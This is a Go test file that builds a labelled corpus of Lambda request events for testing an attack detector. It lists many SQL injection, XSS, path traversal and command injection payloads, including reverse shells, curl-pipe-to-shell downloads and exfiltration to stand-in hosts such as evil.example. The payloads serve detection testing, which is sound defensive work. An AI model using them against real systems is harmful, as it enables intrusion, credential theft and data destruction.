package detect

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"
)

var generate = flag.Bool("generate", false, "rewrite testdata/corpus/{benign,sqli,xss,traversal,cmd,ssrf,sensitive}.ndjson from corpus_gen_test.go")

// TestGenerateCorpus writes the labelled corpus (go test -run
// TestGenerateCorpus -generate ./detect/). The payloads and the benign
// traffic below are written by hand; the generator only puts each one in
// an event of one of the four shapes (HTTP API, REST API, ALB, Function
// URL), in turn, so that every line is reviewable in the data files and
// reproducible from here. Files whose names start with lead- are not
// written here.
func TestGenerateCorpus(t *testing.T) {
	if !*generate {
		t.Skip("run with -generate to rewrite the corpus")
	}
	g := &corpusGen{files: map[string][]corpusLine{}}
	g.benign()
	g.sqli()
	g.xss()
	g.traversal()
	g.cmd()
	g.ssrf()
	g.sensitive()
	names := make([]string, 0, len(g.files))
	for name := range g.files {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		// Without HTML escaping, so that payloads read as they are
		// (<script>, not \u003cscript\u003e).
		var buf bytes.Buffer
		enc := json.NewEncoder(&buf)
		enc.SetEscapeHTML(false)
		for _, l := range g.files[name] {
			if err := enc.Encode(l); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.WriteFile(filepath.Join(corpusDir, name+".ndjson"), buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("%s: %d lines", name, len(g.files[name]))
	}
}

// corpusGen accumulates lines per file.
type corpusGen struct {
	files map[string][]corpusLine
	n     int // lines so far: the clock and the choice of shape
}

// genReq is a request as a client sends it.
type genReq struct {
	method string
	path   string // as sent (percent-encoded where the client encoded)
	query  string // the raw query string
	header map[string]string
	cookie string
	ctype  string
	body   string
	b64    bool
	// shapes restricts the event shapes: cookies are a header only in
	// REST API and ALB events (HTTP API and Function URL events carry
	// them apart), an ALB passes parameters still encoded.
	shapes []string
}

type genResp struct {
	status int
	ctype  string
	body   string
	b64    bool
}

const (
	shapeHTTP = "http"
	shapeREST = "rest"
	shapeALB  = "alb"
	shapeURL  = "url"
)

var allShapes = []string{shapeHTTP, shapeREST, shapeALB, shapeURL}

func (g *corpusGen) add(file string, label []string, note string, r genReq, resp *genResp) {
	shapes := r.shapes
	if len(shapes) == 0 {
		shapes = allShapes
	}
	shape := shapes[g.n%len(shapes)]
	if shape == shapeREST || shape == shapeALB {
		if _, err := url.ParseQuery(r.query); err != nil {
			shape = shapeHTTP // API Gateway REST and ALB refuse malformed escapes
		}
	}
	if shape == shapeALB && strings.Contains(r.query, "%25") {
		// An ALB passes parameters on still encoded and ParseRequest
		// encodes them once more: a double-encoded payload arrives
		// encoded three times, one more than Injection undoes
		// (signatures.md, "What it can miss"). Such lines use the
		// other shapes.
		shape = shapeREST
	}
	at := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC).Add(time.Duration(g.n) * 17 * time.Second)
	g.n++
	ev := g.event(r, shape, at)
	line := corpusLine{Time: at.Format(time.RFC3339), Event: ev, Label: label, Note: note}
	if label == nil {
		line.Label = []string{}
	}
	if resp != nil {
		line.Response = json.RawMessage(jsonOf(renderResponse(*resp)))
	} else {
		line.Response = json.RawMessage("null")
	}
	g.files[file] = append(g.files[file], line)
}

// addRaw adds a line with an event that is not an HTTP request.
func (g *corpusGen) addRaw(file, note, event string) {
	at := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC).Add(time.Duration(g.n) * 17 * time.Second)
	g.n++
	g.files[file] = append(g.files[file], corpusLine{Time: at.Format(time.RFC3339), Event: json.RawMessage(event), Response: json.RawMessage("null"), Label: []string{}, Note: note})
}

func renderResponse(r genResp) map[string]any {
	ctype := r.ctype
	if ctype == "" {
		ctype = "application/json"
	}
	body := r.body
	if r.b64 {
		body = base64.StdEncoding.EncodeToString([]byte(body))
	}
	return map[string]any{"statusCode": r.status, "headers": map[string]string{"content-type": ctype}, "body": body, "isBase64Encoded": r.b64}
}

var userAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
	"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; Pixel 8 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
	"MyShop/4.12.1 (iPhone; iOS 17.4.1; Scale/3.00)",
	"okhttp/4.12.0",
	"Dalvik/2.1.0 (Linux; U; Android 13; SM-S908B Build/TP1A.220624.014)",
	"python-requests/2.31.0",
	"curl/8.5.0",
	"Go-http-client/2.0",
	"aws-sdk-js/3.556.0 ua/2.0 os/linux#5.10 lang/js md/nodejs#20.12.2 api/lambda#3.556.0",
	"PostmanRuntime/7.37.3",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
	"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
	"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
	"Amazon CloudFront",
	"ELB-HealthChecker/2.0",
	"Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
	"Apache-HttpClient/4.5.14 (Java/17.0.10)",
	"Instagram 309.0.0.40.113 Android (33/13; 420dpi; 1080x2400; samsung; SM-G991B; o1s; exynos2100; en_US; 541635890)",
	"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
	"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)",
	"Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5422; Pro)",
	"WhatsApp/2.23.20.0 A",
	"insomnia/2023.5.8",
	"Java/1.8.0_151",
	"Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
}

var referers = []string{
	"https://www.google.com/",
	"https://shop.example.com/search?q=o%27reilly+%26+sons",
	"https://shop.example.com/products/select-comfort-bed?ref=home",
	"android-app://com.google.android.gm/",
	"https://t.co/AbC123xYz",
	"https://www.bing.com/search?q=%22union+square%22+hotels",
	"https://app.example.com/dashboard#/orders?status=open",
	"https://docs.example.com/guide/api/intro?lang=en",
	"https://www.google.com/search?q=%22select+comfort%22+or+%22sleep+number%22&hl=en",
	"https://duckduckgo.com/?q=drop+earrings+%26+studs+-cheap&ia=web",
}

// event renders r as a Lambda event of a shape.
func (g *corpusGen) event(r genReq, shape string, at time.Time) json.RawMessage {
	method := r.method
	if method == "" {
		method = "GET"
	}
	hdr := map[string]string{"accept": "application/json, text/plain, */*", "host": "api.example.com", "x-amzn-trace-id": fmt.Sprintf("Root=1-%08x-%024x", at.Unix(), g.n*7919)}
	if _, ok := r.header["user-agent"]; !ok {
		hdr["user-agent"] = userAgents[g.n%len(userAgents)]
	}
	if g.n%3 == 0 {
		hdr["referer"] = referers[g.n%len(referers)]
	}
	hdr["x-forwarded-for"] = fmt.Sprintf("198.51.100.%d, 10.0.%d.%d", g.n%250+1, g.n%7, g.n%200+2)
	for k, v := range r.header {
		hdr[k] = v
	}
	if r.ctype != "" {
		hdr["content-type"] = r.ctype
	}
	var body any
	if r.body != "" || r.method == "POST" || r.method == "PUT" || r.method == "PATCH" {
		b := r.body
		if r.b64 {
			b = base64.StdEncoding.EncodeToString([]byte(b))
		}
		body = b
	}
	reqID := fmt.Sprintf("c0ffee%02d-%04x-4%03x-8%03x-%012x", g.n%100, g.n, g.n%4096, (g.n*31)%4096, g.n*104729)
	ip := fmt.Sprintf("198.51.100.%d", g.n%250+1)
	var ev map[string]any
	switch shape {
	case shapeHTTP, shapeURL:
		if r.cookie != "" {
			// HTTP API and Function URL events carry cookies apart.
			hdr = copyMap(hdr)
		}
		rc := map[string]any{
			"accountId": "123456789012", "apiId": "r2d2c3po", "domainName": "api.example.com", "domainPrefix": "api",
			"http":      map[string]any{"method": method, "path": decodedPathOr(r.path), "protocol": "HTTP/1.1", "sourceIp": ip, "userAgent": hdr["user-agent"]},
			"requestId": reqID, "routeKey": "$default", "stage": "$default",
			"time": at.Format("02/Jan/2006:15:04:05 -0700"), "timeEpoch": at.UnixMilli(),
		}
		ev = map[string]any{"version": "2.0", "routeKey": "$default", "rawPath": r.path, "rawQueryString": r.query, "headers": hdr, "requestContext": rc, "isBase64Encoded": r.b64}
		if shape == shapeURL {
			rc["domainName"], rc["apiId"], rc["domainPrefix"] = "k3xq7hw2v4abcdefghij.lambda-url.eu-west-1.on.aws", "k3xq7hw2v4abcdefghij", "k3xq7hw2v4abcdefghij"
			rc["authorizer"] = map[string]any{"iam": map[string]any{"accountId": "123456789012", "callerId": "AIDAEXAMPLECALLERID1", "userArn": "arn:aws:iam::123456789012:user/ci"}}
			delete(rc, "routeKey")
			delete(rc, "stage")
			rc["stage"] = "$default"
		}
		if r.cookie != "" {
			ev["cookies"] = strings.Split(r.cookie, "; ")
		}
		if q, err := url.ParseQuery(r.query); err == nil && len(q) > 0 {
			m := map[string]string{}
			for k, v := range q {
				m[k] = strings.Join(v, ",")
			}
			ev["queryStringParameters"] = m
		}
		if body != nil {
			ev["body"] = body
		}
	case shapeREST:
		h, mv := map[string]string{}, map[string][]string{}
		for k, v := range hdr {
			ck := textproto.CanonicalMIMEHeaderKey(k)
			h[ck], mv[ck] = v, []string{v}
		}
		if r.cookie != "" {
			h["Cookie"], mv["Cookie"] = r.cookie, []string{r.cookie}
		}
		ev = map[string]any{
			"resource": "/{proxy+}", "path": r.path, "httpMethod": method, "headers": h, "multiValueHeaders": mv,
			"pathParameters": map[string]string{"proxy": strings.TrimPrefix(r.path, "/")}, "stageVariables": nil,
			"requestContext": map[string]any{"resourcePath": "/{proxy+}", "httpMethod": method, "path": "/prod" + r.path, "accountId": "123456789012", "apiId": "a1b2c3d4e5", "stage": "prod", "requestId": reqID, "identity": map[string]any{"sourceIp": ip, "userAgent": hdr["user-agent"]}, "requestTimeEpoch": at.UnixMilli()},
			"body":           body, "isBase64Encoded": r.b64,
		}
		q, _ := url.ParseQuery(r.query)
		if len(q) > 0 {
			single := map[string]string{}
			for k, v := range q {
				single[k] = v[len(v)-1]
			}
			ev["queryStringParameters"], ev["multiValueQueryStringParameters"] = single, map[string][]string(q)
		} else {
			ev["queryStringParameters"], ev["multiValueQueryStringParameters"] = nil, nil
		}
	case shapeALB:
		h := copyMap(hdr)
		if r.cookie != "" {
			h["cookie"] = r.cookie
		}
		// An ALB passes the parameters as the client encoded them.
		q := map[string]string{}
		for kv := range strings.SplitSeq(r.query, "&") {
			if kv == "" {
				continue
			}
			k, v, _ := strings.Cut(kv, "=")
			q[k] = v
		}
		ev = map[string]any{
			"requestContext": map[string]any{"elb": map[string]any{"targetGroupArn": "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/api/0123456789abcdef"}},
			"httpMethod":     method, "path": r.path, "queryStringParameters": q, "headers": h, "body": body, "isBase64Encoded": r.b64,
		}
		if body == nil {
			ev["body"] = ""
		}
	}
	return json.RawMessage(jsonOf(ev))
}

func copyMap(m map[string]string) map[string]string {
	c := make(map[string]string, len(m))
	for k, v := range m {
		c[k] = v
	}
	return c
}

func decodedPathOr(p string) string {
	if d, err := url.PathUnescape(p); err == nil {
		return d
	}
	return p
}

// preEncoded reports whether s holds percent-escapes already.
func preEncoded(s string) bool {
	for i := 0; i+2 < len(s); i++ {
		if s[i] == '%' && isHex(s[i+1]) && isHex(s[i+2]) || s[i] == '%' && (s[i+1] == 'u' || s[i+1] == 'U') {
			return true
		}
	}
	return false
}

// qesc is how a browser or an HTTP library encodes a query value.
func qesc(s string) string { return url.QueryEscape(s) }

// pesc encodes a path segment.
func pesc(s string) string { return url.PathEscape(s) }

func jsonOf(v any) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

// jsonEscaped marshals v the way Go's encoding/json does by default
// (<, > and & as \u003c, \u003e, \u0026).
func jsonEscaped(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

var injectionLabel = []string{"injection_attempt"}
var sensitiveLabel = []string{"sensitive_data_exposure"}

// attackResponses are what an API answers an attack with.
func attackResponse(i int) *genResp {
	switch i % 5 {
	case 0:
		return &genResp{status: 400, body: `{"message":"Bad Request"}`}
	case 1:
		return &genResp{status: 200, body: `{"results":[],"total":0}`}
	case 2:
		return &genResp{status: 404, body: `{"error":"not_found","message":"No such resource"}`}
	case 3:
		return &genResp{status: 500, body: `{"message":"Internal server error"}`}
	}
	return &genResp{status: 403, body: `{"message":"Forbidden"}`}
}

// place puts an attack payload in one of the places attacks go, chosen by
// i: a query parameter, a path segment, a JSON body, a form body, a
// cookie, a header.
func placePayload(i int, payload string, params []string, hdrs []string) (genReq, string) {
	param := params[i%len(params)]
	qesc, how := qesc, "form-encoded"
	var shapes []string
	if preEncoded(payload) {
		// The attacker encoded it already (%2e%2e%2f, %252e): it is sent
		// as it is.
		qesc, how = func(s string) string { return strings.ReplaceAll(s, " ", "%20") }, "encoded by the attacker"
	}
	switch i % 8 {
	case 0, 1:
		return genReq{path: "/v1/search", query: param + "=" + qesc(payload) + "&page=1", shapes: shapes}, "query parameter " + param + ", " + how
	case 2:
		if how != "form-encoded" {
			return genReq{path: "/v1/items", query: "limit=20&" + param + "=" + qesc(payload), shapes: shapes}, "query parameter " + param + ", " + how
		}
		return genReq{path: "/v1/items", query: "limit=20&" + param + "=" + strings.ReplaceAll(url.PathEscape(payload), "&", "%26")}, "query parameter " + param + ", %20 for spaces"
	case 3:
		return genReq{method: "POST", path: "/v1/" + param, ctype: "application/json", body: jsonOf(map[string]any{param: payload, "locale": "en-US"})}, "JSON body field " + param
	case 4:
		return genReq{method: "POST", path: "/v1/forms/" + param, ctype: "application/x-www-form-urlencoded; charset=UTF-8", body: "csrf=8f14e45fceea167a5a36dedd4bea2543&" + param + "=" + qesc(payload)}, "form body field " + param
	case 5:
		if how != "form-encoded" {
			return genReq{path: "/v1/products/" + qesc(payload)}, "path segment, " + how
		}
		return genReq{path: "/v1/products/" + pesc(payload)}, "path segment"
	case 6:
		return genReq{path: "/v1/account", cookie: "session=3b2c1a9f8e7d6c5b4a39281706f5e4d3; " + param + "=" + qesc(payload), shapes: []string{shapeREST, shapeALB}}, "cookie " + param
	}
	h := hdrs[i%len(hdrs)]
	return genReq{path: "/v1/home", header: map[string]string{h: payload}}, "header " + h
}

// ---- attacks ----

func (g *corpusGen) attacks(file string, payloads []string, params, hdrs []string, extra func(i int, p string) (genReq, string, bool)) {
	for i, p := range payloads {
		r, where := placePayload(i, p, params, hdrs)
		if extra != nil {
			if er, ew, ok := extra(i, p); ok {
				r, where = er, ew
			}
		}
		g.add(file, injectionLabel, file+": "+where, r, attackResponse(i))
	}
}

func (g *corpusGen) sqli() {
	payloads := []string{
		"' OR '1'='1",
		"' OR 1=1--",
		`" OR ""="`,
		"admin'--",
		"admin' #",
		"') OR ('a'='a",
		"1 OR 1=1",
		"1' AND 1=2 UNION SELECT NULL,NULL--",
		"-1 UNION SELECT 1,2,3--",
		"1' UNION ALL SELECT NULL,NULL,NULL,CONCAT(0x716b6a7171,0x4a6f4e,0x7178767071)-- -",
		"' UNION SELECT username, password FROM users--",
		"1 UNION SELECT @@version",
		"1/**/UNION/**/SELECT/**/table_name/**/FROM/**/information_schema.tables",
		"1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3",
		"1; DROP TABLE users--",
		"'; EXEC xp_cmdshell('whoami')--",
		"1'; WAITFOR DELAY '0:0:5'--",
		"1' AND SLEEP(5)--",
		"1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)",
		"'||pg_sleep(10)--",
		"1' AND BENCHMARK(5000000,MD5(1))#",
		"1 AND 5678=5678",
		"1' AND 'abcd'='abcd",
		"1' AND SUBSTRING(@@version,1,1)='5",
		"1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
		"1 AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version())))",
		"1' AND UPDATEXML(1,CONCAT(0x7e,(SELECT user())),1)--",
		"' OR 'x'='x",
		"1' ORDER BY 10--",
		"' AND 1=CONVERT(int,(SELECT @@version))--",
		"1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
		"admin' OR 1=1 LIMIT 1;#",
		"1 OR SLEEP(5)#",
		"' OR '1'='1' /*",
		"%' AND 1=1 AND '%'='",
		"1) OR (1=1",
		"' UNION SELECT NULL,table_name FROM information_schema.tables--",
		"1 AND 1=1 -- ",
		"' OR EXISTS(SELECT * FROM users)--",
		"1;SELECT pg_sleep(5)",
		"1'||(SELECT CHR(65)||CHR(66))||'",
		"'; INSERT INTO users(username,password) VALUES('eve','x')--",
		"1' AND 1=(SELECT COUNT(*) FROM tabname); --",
		"'; SHUTDOWN --",
		"1 AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64",
		"-1' UNION SELECT 1,load_file('/etc/passwd'),3-- -",
		"' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'",
		"x' AND email IS NULL; --",
		"1' RLIKE (SELECT (CASE WHEN (4346=4346) THEN 1 ELSE 0x28 END))-- qSBB",
		"' OR 1 -- -",
		"1' OR '1'='1' LIMIT 1 OFFSET 1 -- ",
		"1 AND 8294=(SELECT 8294 FROM PG_SLEEP(5))",
		"1)) OR 1=1--",
		"\" OR 1=1 --",
		// Written after the signatures, from attack lists, to see what
		// they miss.
		"'='",
		"' || 1==1//",
		"' GROUP BY columnnames having 1=1 --",
		"1; EXEC sp_configure 'show advanced options',1",
		"1 AND (SELECT 1)=1",
		"' AND IF(1=1,SLEEP(5),0)--",
		"1' WAITFOR DELAY '00:00:05'--",
		"' OR 1 IN (SELECT @@version)--",
		"10' HAVING 1=1--",
		"' OR 'unusual' = 'unusual'",
	}
	g.attacks("sqli", payloads, []string{"q", "id", "user", "sort", "filter", "category"}, []string{"user-agent", "x-forwarded-for", "referer"}, nil)
	// Encodings: double encoding, case games, comments as spaces, mixed
	// plus and percent, a base64 body.
	more := []struct{ note, query, path, body, ctype string }{
		{note: "double-encoded tautology in the query", query: "id=1%2527%2520OR%2520%25271%2527%253D%25271"},
		{note: "tab and newline as spaces", query: "id=1%09UNION%0ASELECT%09NULL,NULL--"},
		{note: "upper and lower case", query: "q=1'%20uNiOn%20sElEcT%20nUlL,nUlL--"},
		{note: "plus for spaces", query: "q=%27+or+%271%27%3D%271"},
		{note: "unencoded quote", query: "user=admin'--&pass=x"},
		{note: "in a path id", path: "/v1/orders/1%20AND%201=1"},
		{note: "JSON-escaped quotes in a JSON body", body: `{"username":"admin\u0027 OR \u00271\u0027=\u00271","password":"x"}`, ctype: "application/json"},
		{note: "nested filter object", body: `{"filter":{"name":"x' UNION SELECT password FROM users--"},"page":1}`, ctype: "application/json"},
		{note: "GraphQL variable", body: `{"query":"query($id:ID!){order(id:$id){total}}","variables":{"id":"1' OR '1'='1"}}`, ctype: "application/json"},
		{note: "text/plain body", body: "1'; DROP TABLE sessions; --", ctype: "text/plain"},
	}
	for i, m := range more {
		r := genReq{path: "/v1/search", query: m.query}
		if m.path != "" {
			r.path = m.path
		}
		if m.body != "" {
			r = genReq{method: "POST", path: "/v1/login", ctype: m.ctype, body: m.body, b64: i%2 == 0}
		}
		g.add("sqli", injectionLabel, "sqli: "+m.note, r, attackResponse(i))
	}
}

func (g *corpusGen) xss() {
	payloads := []string{
		"<script>alert(1)</script>",
		"<ScRiPt>alert(document.cookie)</sCrIpT>",
		`"><script>alert(String.fromCharCode(88,83,83))</script>`,
		"<script src=https://evil.example/x.js></script>",
		"<img src=x onerror=alert(1)>",
		`<img src="x" onerror="alert(document.domain)">`,
		`"><img src=x onerror=prompt(1)>`,
		"<svg onload=alert(1)>",
		"<svg/onload=alert(1)>",
		"<body onload=alert('XSS')>",
		`<iframe src="javascript:alert(1)"></iframe>`,
		`<iframe srcdoc="<script>alert(1)</script>">`,
		`<a href="javascript:alert(1)">click</a>`,
		"javascript:alert(document.cookie)",
		"JaVaScRiPt:alert(1)",
		"java\tscript:alert(1)",
		"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
		"<details open ontoggle=alert(1)>",
		"<input autofocus onfocus=alert(1)>",
		`<video><source onerror="alert(1)">`,
		"<audio src=x onerror=alert(1)>",
		"<marquee onstart=alert(1)>",
		`<div onmouseover="alert(1)">hover</div>`,
		`" onmouseover="alert(1)`,
		"' onfocus='alert(1)' autofocus='",
		"';alert(1)//",
		`"-alert(1)-"`,
		"'+alert(1)+'",
		"</script><script>alert(1)</script>",
		`<object data="javascript:alert(1)">`,
		`<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
		"data:text/html,<script>alert(1)</script>",
		`<math><mtext></mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">`,
		`<form action="javascript:alert(1)"><input type=submit>`,
		`<base href="https://evil.example/">`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
		"{{constructor.constructor('alert(1)')()}}",
		"<scr<script>ipt>alert(1)</scr</script>ipt>",
		"<img src=1 onerror=fetch('https://evil.example/?c='+document.cookie)>",
		"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
		"<body onpageshow=alert(1)>",
		"<style>@import 'javascript:alert(1)';</style>",
		"<x onclick=alert(1)>click me",
		"<img src=x:alert(alt) onerror=eval(src) alt=xss>",
		"<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
		"<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a>",
		"<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
		"<select autofocus onfocus=alert(1)>",
		"<textarea autofocus onfocus=alert(1)>",
		// Written after the signatures.
		"<svg><script>alert&#40;1&#41;</script>",
		`<a href="&#x6A;avascript:alert(1)">x</a>`,
		`<iframe src="data:text/html,<script>alert(1)</script>">`,
		"javascript://comment%0aalert(1)",
		"<img/src/onerror=alert(1)>",
		`"><svg onload=alert(1)//`,
		"<script>alert`1`</script>",
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`\"-alert(1)}//`,
		"<xss onafterscriptexecute=alert(1)><script>1</script>",
	}
	g.attacks("xss", payloads, []string{"q", "name", "comment", "redirect", "callback", "title"}, []string{"user-agent", "referer"}, nil)
	more := []struct{ note, query, body string }{
		{note: "double-encoded script tag", query: "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"},
		{note: "encoded handler", query: "name=%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E"},
		{note: "JSON body with escaped markup", body: jsonEscaped(map[string]string{"bio": "<img src=x onerror=alert(1)>"})},
		{note: "rich-text comment with a handler", body: `{"html":"<p>Nice post!</p><p><img src=\"/x.png\" onerror=\"fetch('//evil.example/'+localStorage.token)\"></p>"}`},
		{note: "profile display name", body: `{"displayName":"</title><script>new Image().src='//evil.example/?'+document.cookie</script>"}`},
	}
	for i, m := range more {
		r := genReq{path: "/v1/search", query: m.query}
		if m.body != "" {
			r = genReq{method: "PUT", path: "/v1/profile", ctype: "application/json", body: m.body}
		}
		g.add("xss", injectionLabel, "xss: "+m.note, r, attackResponse(i))
	}
}

func (g *corpusGen) traversal() {
	payloads := []string{
		"../../../../etc/passwd",
		"..%2f..%2f..%2fetc%2fpasswd",
		"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
		"..\\..\\..\\windows\\win.ini",
		"..%5c..%5c..%5cwindows%5cwin.ini",
		"....//....//....//etc/passwd",
		"..;/..;/..;/etc/passwd",
		"/etc/passwd",
		"/etc/shadow",
		"/proc/self/environ",
		"C:\\Windows\\win.ini",
		"file:///etc/passwd",
		"php://filter/convert.base64-encode/resource=../config.php",
		"../../../../../../etc/hosts",
		"../../../var/www/html/.htpasswd",
		"../../../../home/ubuntu/.ssh/id_rsa",
		"../../../../root/.aws/credentials",
		"../WEB-INF/web.xml",
		"../../../../etc/passwd\x00.png",
		"%2e%2e/%2e%2e/%2e%2e/etc/group",
		"....\\\\....\\\\....\\\\boot.ini",
		"..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
		"/var/log/../../etc/passwd",
		"../../../../../../../../../../etc/passwd",
		"zip://uploads/avatar.jpg#shell.php",
		"expect://id",
		"phar://uploads/x.phar/test.txt",
		"file:///c:/windows/win.ini",
		"\\..\\..\\..\\etc\\passwd",
		"../../../../proc/self/cmdline",
		"..%255c..%255c..%255cwindows%255cwin.ini",
		"/proc/self/cwd/app.py",
		"../../../../../boot.ini",
		"..././..././..././etc/passwd",
		"../../../windows/system32/drivers/etc/hosts",
		"/../../../../../../etc/passwd",
		"..%u002f..%u002f..%u002fetc%u002fpasswd",
		"..\\/..\\/..\\/etc/passwd",
		"../../../../../../usr/local/app/.env",
		"c:/boot.ini",
		// Written after the signatures.
		"..%2F..%2F..%2F..%2Fetc%2Fpasswd%00",
		"....\\/....\\/etc/passwd",
		"%2fetc%2fpasswd",
		"/etc/passwd%00",
		"..%5c..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config",
		"../../../../../../../../../../../../etc/passwd%00.jpg",
		"/.%2e/.%2e/.%2e/etc/passwd",
		"../../../../../../etc/passwd#",
	}
	g.attacks("traversal", payloads, []string{"file", "path", "template", "page", "doc", "download"}, []string{"x-original-url", "x-rewrite-url", "referer"}, func(i int, p string) (genReq, string, bool) {
		if strings.ContainsAny(p, "%") && i%8 < 3 {
			// Already encoded: as the client sent it.
			return genReq{path: "/v1/files", query: "name=" + p}, "query parameter name, encoded by the attacker", true
		}
		return genReq{}, "", false
	})
	paths := []string{
		"/static/../../../../etc/passwd",
		"/download/..%2f..%2f..%2fetc%2fpasswd",
		"/images/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
		"/api/v1/files/..%5c..%5cwindows%5cwin.ini",
		"/files/../../config/database.yml",
		"/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
		"/assets/%252e%252e/%252e%252e/etc/passwd",
		"/v1/export/..;/..;/admin/users",
		"/docs/..%c0%af..%c0%afetc/passwd",
		"/v1/avatars/....//....//etc/passwd",
	}
	for i, p := range paths {
		g.add("traversal", injectionLabel, "traversal: in the raw path", genReq{path: p}, attackResponse(i))
	}
}

func (g *corpusGen) cmd() {
	payloads := []string{
		"; cat /etc/passwd",
		"| id",
		"|| whoami",
		"&& uname -a",
		"; ls -la /",
		"$(whoami)",
		"`id`",
		"127.0.0.1; cat /etc/passwd",
		"8.8.8.8 | nc attacker.example 4444 -e /bin/sh",
		"google.com && curl http://evil.example/x.sh | sh",
		";wget http://evil.example/bd -O /tmp/bd;chmod +x /tmp/bd;/tmp/bd",
		"example.com\nid",
		"x\n/bin/cat /etc/passwd",
		";cat${IFS}/etc/passwd",
		";cat$IFS$9/etc/passwd",
		";{cat,/etc/passwd}",
		";w'h'o'am'i",
		";c\\at /etc/passwd",
		"& ping -n 10 127.0.0.1 &",
		"| ping -c 10 127.0.0.1",
		"; sleep 10",
		"1|sleep 5",
		"$(sleep 5)",
		"`sleep 5`",
		"& whoami /priv",
		"| type C:\\Windows\\win.ini",
		"& net user",
		"| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
		"; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444))'",
		";nslookup $(whoami).evil.example",
		"| curl -d @/etc/passwd http://evil.example",
		";echo 'pwned' > /tmp/x",
		"; perl -e 'print 1'",
		"x | ls",
		"a;id;",
		"x&&id",
		"|/usr/bin/id",
		";/bin/sh -c id",
		"$(cat /etc/passwd | base64 | curl -d @- http://evil.example)",
		"| certutil -urlcache -split -f http://evil.example/x.exe x.exe",
		"; rm -rf /tmp/*",
		"localhost;uname${IFS}-a",
		"test.txt; busybox telnet 10.0.0.1 4444",
		// Written after the signatures.
		";id #",
		"|| ping -c 5 evil.example ||",
		"%26%26whoami",
		";curl${IFS}evil.example|sh",
		"$(printf 'id')",
		";sleep${IFS}5;",
		"|nslookup evil.example",
		"a%0Acat%20/etc/passwd",
		"<?php system('id'); ?>",
		"x;echo${IFS}$((7*7))",
	}
	g.attacks("cmd", payloads, []string{"host", "ip", "domain", "filename", "target", "cmd"}, []string{"user-agent", "referer", "x-forwarded-host"}, nil)
	shellshock := []struct{ h, v string }{
		{"user-agent", "() { :; }; /bin/bash -c \"cat /etc/passwd\""},
		{"referer", "() { ignored; }; echo Content-Type: text/plain; echo; /usr/bin/id"},
